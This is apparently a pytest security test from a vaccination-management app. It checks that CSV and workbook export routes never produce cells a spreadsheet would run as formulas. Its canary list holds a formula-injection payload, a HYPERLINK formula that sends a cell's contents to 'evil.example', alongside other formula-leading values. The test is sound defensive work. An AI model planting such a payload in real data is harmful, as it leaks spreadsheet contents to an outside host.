"""No file we produce carries a cell a spreadsheet would run as a formula (issue 12).

Names starting with ``=``, ``+``, ``-`` or ``@`` are valid input. The walk takes every
route whose answer is a CSV file or a workbook (found from the app: a ``text/csv`` or
XLSX media type declared in its responses or its response class) and calls it through an
export recipe (:data:`EXPORTS`) that feeds canary values (:data:`CANARIES`) wherever the
route's input can take text. No cell of the file may start like a formula; a route with
no recipe fails the walk, naming it. How every writer stays on the helper is
``tests/test_house_rules.py::test_csv_and_workbooks_are_written_only_through_the_spreadsheet_helper``.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx

from tests.registration.imports.import_support import HEADER as PEOPLE_HEADER
from tests.security.world import World
from vaxport.core.http.dependencies import iter_routes
from vaxport.core.imports.readers import XLSX_MEDIA_TYPE
from vaxport.core.spreadsheet import FORMULA_STARTS
from vaxport.registration.imports import importer
from vaxport.registration.imports import service as imports

CANARIES = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1", "-2", "@SUM(1)", "\t=1", "-2+3"]
FILE_TYPES = ("text/csv", XLSX_MEDIA_TYPE)
FACILITY_HEADER = [
    "code", "name", "type", "region_code", "address", "phone", "email", "vaccines",
    "hours_mon", "exceptions", "accessibility", "daily_capacity", "stations", "active",
]  # fmt: skip
RouteKey = tuple[str, str]
Export = Callable[[World, Path], Awaitable[httpx.Response]]
EXPORTS: dict[RouteKey, Export] = {}


def export(method: str, path: str) -> Callable[[Export], Export]:
    def register(fn: Export) -> Export:
        EXPORTS[(method, path)] = fn
        return fn

    return register


def _canary_csv(header: list[str], rows: int = 6) -> bytes:
    out = io.StringIO()
    out.write(",".join(header) + "\n")
    values = itertools.cycle(CANARIES)
    for _ in range(rows):
        csv.writer(out).writerow([next(values) for _ in header])
    return out.getvalue().encode()


@export("POST", "/api/v1/{tenant}/facilities/import")
async def _facility_errors(w: World, _tmp: Path) -> httpx.Response:
    headers = {**w.admin_auth, "content-type": "text/csv", "accept": "text/csv"}
    url = f"{w.api}/facilities/import"
    return await w.client.post(url, content=_canary_csv(FACILITY_HEADER), headers=headers)


@export("POST", "/api/v1/{tenant}/lots/import")
async def _lot_errors(w: World, _tmp: Path) -> httpx.Response:
    headers = {**w.admin_auth, "content-type": "text/csv", "accept": "text/csv"}
    url = f"{w.api}/lots/import"
    header = ["product_id", "lot_number", "manufacturer", "expires_on", "doses_per_vial"]
    return await w.client.post(url, content=_canary_csv(header), headers=headers)


@export("GET", "/api/v1/{tenant}/beneficiaries/imports/{import_id}/errors")
async def _people_errors(w: World, tmp: Path) -> httpx.Response:
    path = tmp / "canaries.csv"
    path.write_bytes(_canary_csv(PEOPLE_HEADER))
    started = await imports.create(
        db=w.db,
        settings=w.settings,
        tenant=w.tenant,
        upload=path,
        kind="csv",
        actor_id=w.admin.id,
        actor_role="national_admin",
        within_region=None,
        queue=False,
    )
    await importer.run(
        db=w.db, tenant=w.tenant, import_id=started.id, path=path, actor_role="national_admin"
    )
    url = f"{w.api}/beneficiaries/imports/{started.id}/errors"
    return await w.client.get(url, headers=w.admin_auth)


def _file_routes(app: Any) -> set[RouteKey]:
    found: set[RouteKey] = set()
    for path, route, _ in iter_routes(app.routes):
        media = {str(getattr(getattr(route, "response_class", None), "media_type", ""))}
        for answer in (getattr(route, "responses", None) or {}).values():
            media.update((answer or {}).get("content", {}))
        if any(m.startswith(FILE_TYPES) for m in media):
            found.update((m, path) for m in getattr(route, "methods", None) or () if m != "HEAD")
    return found


async def test_no_exported_cell_starts_like_a_formula(
    app: Any, world: World, tmp_path: Path
) -> None:
    routes = _file_routes(app)
    assert len(routes) >= 2, "the walk found too few routes answering a file"
    missing = sorted(routes - set(EXPORTS))
    assert not missing, f"routes answering a file without an export recipe: {missing}"
    assert not set(EXPORTS) - routes, "export recipes for routes that answer no file"
    unsafe = []
    for key in sorted(routes):
        resp = await EXPORTS[key](world, tmp_path)
        assert resp.status_code == 200, (key, resp.text[:300])
        assert resp.headers["content-type"].startswith("text/csv"), key
        lines = list(csv.reader(io.StringIO(resp.text)))
        assert len(lines) > len(CANARIES), f"{key}: the canaries made too few report lines"
        unsafe += [
            f"  {key[0]} {key[1]}: {cell!r}"
            for line in lines
            for cell in line
            if cell.startswith(FORMULA_STARTS)
        ]
    assert not unsafe, "cells a spreadsheet would run as formulas:\n" + "\n".join(unsafe)
